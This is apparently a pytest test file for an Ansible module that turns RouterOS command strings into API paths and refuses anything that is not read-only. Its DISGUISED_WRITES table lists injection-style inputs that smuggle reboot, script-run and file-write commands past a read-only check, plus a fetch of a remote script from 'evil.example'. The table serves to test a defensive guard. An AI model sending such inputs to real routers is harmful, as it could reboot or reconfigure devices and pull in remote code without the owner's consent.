"""The sdx_command grammar: API paths, the CLI form, one translated where, and a read-only guard with no way round."""

from __future__ import annotations

import json

import pytest
import responses

from ansible_collections.altostrat.sdx.plugins.module_utils import _commands
from ansible_collections.altostrat.sdx.plugins.module_utils._errors import SDXInputError
from ansible_collections.altostrat.sdx.plugins.modules import sdx_command
from tests.unit.compat import run_module

API = "https://sdx.test"
SITE = "9c69345c-8d39-4786-9f17-8153c988c89a"
SYNC = f"{API}/api/synchronous/{SITE}"
CONNECTION = {"api_url": API, "api_token": "alto_sk_x", "site_id": SITE}


@pytest.mark.parametrize("given, path, query", [
    ("/system/resource/print", "/system/resource/print", None),
    ("/system resource print", "/system/resource/print", None),
    ("  /ip//address/print/ ", "/ip/address/print", None),
    ("/interface/ethernet/monitor", "/interface/ethernet/monitor", None),
    ("/ip address print where address=192.168.99.1/24", "/ip/address/print", "?address=192.168.99.1/24"),
    ("/ip/address/print where .id=*1", "/ip/address/print", "?.id=*1"),
    ("/interface print where mac-address=AA:BB:CC:00:11:22", "/interface/print", "?mac-address=AA:BB:CC:00:11:22"),
])
def test_commands_become_api_paths_and_one_where_becomes_a_query_word(given, path, query):
    assert _commands.parse(given) == _commands.Command(path, query)


@pytest.mark.parametrize("given, path, query, flags", [
    ("/ip address print detail", "/ip/address/print", None, ("detail",)),
    ("/ip/address/print terse without-paging", "/ip/address/print", None, ("terse", "without-paging")),
    ("/interface print count-only", "/interface/print", None, ("count-only",)),
    ("/ip address print as-value where interface=bridge", "/ip/address/print", "?interface=bridge", ("as-value",)),
    ("/ip address print detail detail", "/ip/address/print", None, ("detail",)),
])
def test_print_flags_are_read_only_and_only_count_only_changes_the_answer(given, path, query, flags):
    command = _commands.parse(given)
    assert command == _commands.Command(path, query, flags)
    assert _commands.is_read_only(command, _commands.wire_parameters(command, None))
    assert command.count_only is ("count-only" in flags)


@pytest.mark.parametrize("given, text", [
    ("/ip address detail", "detail is a flag of print only"),
    ("/ip address remove count-only", "count-only is a flag of print only"),
    ("/ip address print detail;/system/reboot", "give each command a task of its own"),
    ("/ip address print detail=yes", "arguments are API words"),
    ("/ip address print DETAIL", "lower-case letters"),
    ("/ip address print where interface=bridge detail", "only one 'where name=value' condition"),
])
def test_words_that_only_resemble_print_flags_are_refused(given, text):
    with pytest.raises(SDXInputError) as refused:
        _commands.parse(given)
    assert text in str(refused.value)


@pytest.mark.parametrize("given, text", [
    ("system resource print", "expected a RouterOS command path"),
    ("/tool fetch url=https://example.com/a.rsc", "parameters: '=url=https://example.com/a.rsc'"),
    ("/tool fetch url=https://example.com/a.rsc", "give command: /tool/fetch"),
    ("/system/reboot;/system/resource/print", "give each command a task of its own"),
    ("/system/resource/print\n/system/reboot", "one command on one line"),
    ("/ip address print where address=1.2.3.4/24 interface=bridge",
     "parameters: ['?address=1.2.3.4/24', '?interface=bridge']"),
    ("/ip address print where comment=\"a b\"", "only one 'where name=value' condition"),
    ("/ip address print where address~\"192\"", "parameters:"),
    ("/ip address print where disabled", "parameters:"),
    ("/ip address remove where address=1.2.3.4/24", "'where' filters only print"),
    ("/ip address print reboot", None),
    ("/interface print \"x\"", "lower-case letters, digits and '-'"),
    ("/System/Resource/print", "lower-case letters"),
    ("/ip/address/print /system/reboot", "only the first word of a command may start with /"),
    (["/system/resource/print"], "got list"),
])
def test_anything_but_path_words_is_refused_with_a_way_through_parameters(given, text):
    if text is None:  # a bare word after the verb is read as a path word; then the verb is not last
        command = _commands.parse(given)
        assert not _commands.is_read_only(command)
        return
    with pytest.raises(SDXInputError) as refused:
        _commands.parse(given)
    assert str(refused.value).startswith("command: ")
    assert text in str(refused.value)


def test_where_and_parameters_together_are_refused():
    command = _commands.parse("/ip address print where interface=bridge")
    with pytest.raises(SDXInputError, match=r"^command: give the query either as 'where' or in parameters"):
        _commands.wire_parameters(command, ["=.proplist=address"])
    assert _commands.wire_parameters(command, None) == "?interface=bridge"


@pytest.mark.parametrize("parameters", [42, {"a": 1}, ["?a=b", 3], [None]])
def test_parameters_must_be_a_word_or_a_list_of_words(parameters):
    with pytest.raises(SDXInputError, match=r"^parameters: expected an API word"):
        _commands.check_parameters(parameters)


@pytest.mark.parametrize("command, parameters, read_only", [
    ("/system/resource/print", None, True),
    ("/interface/monitor", None, True),
    ("/export", None, True),
    ("/ip/address/get", None, True),
    ("/system/package/update/print", None, True),
    ("/system/reboot", None, False),
    ("/ip/address/add", None, False),
    ("/execute", None, False),
    ("/execute/print", None, False),
    ("/ip/address/set/print", None, False),
    ("/export", "=file=backup", False),
    ("/ip/address/print", ["?interface=bridge", "=file=addresses"], False),
    ("/interface/ethernet/monitor", ["=numbers=ether1", "=once="], True),
    ("/interface/ethernet/monitor", "=do={/system reboot}", False),
    ("/ip/address/print", ["?comment=todo=file", "?name=do", "=.proplist=file,done"], True),
])
def test_read_only_is_a_read_verb_last_no_write_verb_and_no_file(command, parameters, read_only):
    assert _commands.is_read_only(_commands.parse(command), parameters) is read_only


# Commands that change the router (or the files on it) dressed up to look read-only. Each must be refused
# before any request, in check mode too.
DISGUISED_WRITES = [
    ("/system/reboot;/system/resource/print", None),
    ("/system/reboot; /system/resource/print", None),
    ("/system/resource/print;/system/reboot", None),
    ("/system/reboot\n/system/resource/print", None),
    ("/system/resource/print\r\n/system/reboot", None),
    ("/system/resource/print\x00/system/reboot", None),
    ("/system/resource/print /system/reboot", None),
    ("/system reboot print", None),
    ("/execute/print", None),
    ("/execute script=/system/reboot", None),
    ("/ip/address/add/print", None),
    ("/ip address set print", None),
    ("/ip/address/remove/get", None),
    ("/file/remove/monitor", None),
    ("/system/script/run/print", None),
    ("/tool/fetch/print", None),
    ("/tool fetch url=https://evil.example/x.rsc dst-path=x.rsc", None),
    ("/system/reset-configuration/export", None),
    ("/user/set/print where name=admin", None),
    ("/export file=backup", None),
    ("/export", "=file=backup"),
    ("/ip/address/print", ["=file=addresses"]),
    ("/ip address print where address=1.1.1.1/32;/system/reboot", None),
    ("/ip address print where address=\"1\";/system/reboot", None),
    ("/system/resource/print `/system/reboot`", None),
    ("/system/resource/print [/system/reboot]", None),
    ("/system/resource/print $(/system/reboot)", None),
    (":execute {/system reboot}", None),
    ("/SYSTEM/REBOOT", None),
    ("/system/backup/save/print", None),
    ("/interface/ethernet/monitor", "=do={/system reboot}"),
    ("/interface/ethernet/monitor", ["=numbers=ether1", "=do=/system/reboot"]),
    ("/interface ethernet monitor", "do=/system/reboot"),
    ("/interface/ethernet/monitor", '"=do={/system reboot}"'),
    ("/interface/ethernet/monitor", "=DO={/system reboot}"),
    ("/interface/ethernet/monitor", " =Do= {/system reboot}"),
    ("/ip/address/print", "=.proplist=address =do={/system reboot}"),
    ("/ip/address/print", ["=File=addresses"]),
    ("/ip/address/print", "file=addresses"),
    ("/system/resource/print", "=on-error={/system reboot}"),
    ("/system/resource/monitor", ["=once=", "'=do=/system/reboot'"]),
    # around the print flags, which are read-only only as whole words right after print
    ("/system reboot print detail", None),
    ("/ip address print detail /system/reboot", None),
    ("/ip address print detail;/system/reboot", None),
    ("/ip address print detail reboot", None),
    ("/ip address print count-only do={/system reboot}", None),
    ("/ip address print without-paging file=addresses", None),
    ("/ip address print as-value", "=file=addresses"),
    ("/ip/address/print/detail", None),
    ("/ip address remove detail", None),
    ("/ip address print terse where address=1.1.1.1/32;/system/reboot", None),
]


def test_the_table_of_disguised_writes_is_long_enough():
    assert len(DISGUISED_WRITES) >= 20


@responses.activate
@pytest.mark.parametrize("check_mode", [False, True])
@pytest.mark.parametrize("command, parameters", DISGUISED_WRITES)
def test_disguised_writes_are_refused_and_nothing_is_sent(command, parameters, check_mode):
    args = {**CONNECTION, "command": command, "_ansible_check_mode": check_mode}
    if parameters is not None:
        args["parameters"] = parameters
    result = run_module(sdx_command.main, args)
    assert result.get("failed") is True, result
    if "\x00" not in command:  # ansible-core 2.21 fails such arguments itself, logging them to syslog
        assert result["msg"].startswith("command: "), result["msg"]
    assert len(responses.calls) == 0


@responses.activate
@pytest.mark.parametrize("parameters", ["=.proplist=name,address", ["?type=ether", "?#|", "=.proplist=name"],
                                        "=comment=a b;c\n\"d\""])
def test_parameters_reach_the_api_byte_for_byte(parameters):
    responses.post(SYNC, json={"status": "success", "data": []})
    result = run_module(sdx_command.main, {**CONNECTION, "command": "/interface/print", "parameters": parameters})
    assert not result.get("failed"), result
    sent = json.loads(responses.calls[0].request.body)
    assert sent == {"command": "/interface/print", "parameters": parameters}
    assert result["parameters"] == parameters


@responses.activate
def test_a_translated_where_is_sent_as_one_query_word():
    responses.post(SYNC, json={"status": "success", "data": [{"address": "192.168.99.1/24"}]})
    result = run_module(sdx_command.main, {
        **CONNECTION, "command": "/ip address print where address=192.168.99.1/24"})
    assert result["changed"] is False
    assert json.loads(responses.calls[0].request.body) == {
        "command": "/ip/address/print", "parameters": "?address=192.168.99.1/24"}
    assert result["output"] == [{"address": "192.168.99.1/24"}]
